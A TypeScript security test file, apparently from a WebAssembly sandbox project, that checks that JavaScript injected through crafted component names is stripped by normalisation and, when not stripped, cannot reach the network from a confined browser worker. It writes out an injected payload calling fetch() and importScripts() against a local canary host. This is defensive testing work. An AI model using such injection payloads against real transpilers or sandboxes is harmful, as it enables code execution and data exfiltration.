/**
 * Two fences against names that are JavaScript, each alone: without `normalise`, what is injected runs
 * and reaches nothing; without confinement, nothing is injected.
 */

import { createContext, runInContext } from 'node:vm';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { type BrowserPlaces, browserPlaces } from '../../cli/runner/browser-places.ts';
import { readSandboxFile } from '../../cli/runner/sandbox-files.ts';
import {
  connectPlace,
  type PlaceLine,
  type RunHeard,
  type RunLine,
} from '../../sandbox/client/place.ts';
import { normalise } from '../../wit/component/normalise/normalise.ts';
import { createNodeOracle } from '../../workspace/oracle-node.ts';
import { createNodeTranspiler } from '../../workspace/transpiler-node.ts';
import { findOrInstallBrowser } from '../support/browser.ts';
import { type Canary, startCanary } from '../support/canary.ts';
import { runnerParts } from '../support/sandbox.ts';
import { craftedPlaces } from './crafted.ts';

vi.setConfig({ testTimeout: 60_000 });

const oracle = createNodeOracle();
const transpiler = createNodeTranspiler();
afterAll(() => Promise.all([oracle.dispose(), transpiler.dispose()]));

async function bytesOf(wat: string): Promise<Uint8Array> {
  const parsed = await oracle.parseWat(wat);
  if (!parsed.ok) throw new Error(parsed.message);
  expect(await oracle.validate(parsed.value)).toEqual({ ok: true });
  return parsed.value;
}

interface Glue {
  /** Declares `instantiate`. */
  readonly text: string;
  readonly modules: readonly { readonly name: string; readonly bytes: Uint8Array<ArrayBuffer> }[];
}

async function glueOf(bytes: Uint8Array): Promise<Glue> {
  const { glue, modules } = await transpiler.transpile(bytes, { imports: ['log'] });
  return { text: glue.replace(/^export (?=function instantiate|const _util)/gm, ''), modules };
}

const places = Object.entries(craftedPlaces);

/** Instantiates and calls, whatever comes of it; gives `globalThis.crafted`. */
const use = `(() => {
  try {
    const ended = instantiate((name) => modules[name], { log: { default() {} } }).run('x');
    if (ended?.catch) ended.catch(() => {});
  } catch {}
  return globalThis.crafted;
})()`;

describe('without confinement', () => {
  function craftedBy({ text, modules }: Glue): unknown {
    const compiled = modules.map(({ name, bytes }) => [name, new WebAssembly.Module(bytes)]);
    const context = createContext({
      modules: Object.fromEntries(compiled),
      ...{ WebAssembly, TextEncoder, TextDecoder, console, setTimeout, queueMicrotask },
    });
    return runInContext(`${text};\n${use}`, context);
  }

  test.each(places)('%s injects nothing when its name is replaced', async (_, wat) => {
    const bytes = await bytesOf(wat("globalThis.crafted='here'"));
    const normalised = normalise(bytes);
    if (normalised.kind === 'refused') throw new Error(normalised.reason);
    // That it would, shows that the test sees it.
    expect(craftedBy(await glueOf(bytes))).toBe('here');
    const harmless = await glueOf(normalised.bytes);
    expect(harmless.text).not.toContain('crafted');
    expect(craftedBy(harmless)).toBeUndefined();
  });
});

describe('without normalise', () => {
  let canary: Canary;
  let browser: BrowserPlaces;
  let line: PlaceLine;
  beforeAll(async () => {
    canary = await startCanary();
    const program = findOrInstallBrowser();
    if (program === undefined) throw new Error('there is no browser');
    browser = browserPlaces({
      program,
      files: async () => ({
        document: await readSandboxFile('document.js'),
        relay: await readSandboxFile('relay.js'),
      }),
      note: () => undefined,
    });
    line = await connectPlace({ ...runnerParts(), openPlace: () => browser.open() });
  }, 60_000);
  afterAll(async () => {
    line?.lose();
    await browser?.close();
    await canary?.close();
  });

  const ask = (run: RunLine, message: Parameters<RunLine['ask']>[0]) =>
    new Promise<RunHeard>((resolve) => {
      run.ask(message, (heard) => {
        resolve(heard);
        return true;
      });
    });

  test.each(places)('%s injects, and reaches nothing', async (_, wat) => {
    const code = `globalThis.crafted=[fetch('http://${canary.host}/').then(()=>'through',(e)=>e.name),(()=>{try{importScripts('http://${canary.host}/x.js');return'through'}catch(e){return e.name}})()]`;
    const { text, modules } = await glueOf(await bytesOf(wat(code)));
    const run = line.newRun();
    const worker = `${text};
      addEventListener('message', async ({ data: { modules: given } }) => {
        const modules = Object.fromEntries(Object.entries(given));
        const crafted = ${use};
        postMessage({ body: JSON.stringify(await Promise.all(crafted ?? [])), rest: true });
      });`;
    const given = modules.map(({ name, bytes }) => ({ key: name, bytes: bytes.slice().buffer }));
    const loaded = await ask(run, { type: 'load', worker, modules: given, deadlineMs: 10_000 });
    expect(loaded).toMatchObject({ type: 'loaded' });
    const heard = await ask(run, { type: 'post', body: 'go', deadlineMs: 10_000 });
    expect(heard).toMatchObject({ type: 'message', body: '["TypeError","NetworkError"]' });
    run.stop();
    expect(canary.heard).toEqual([]);
  });
});
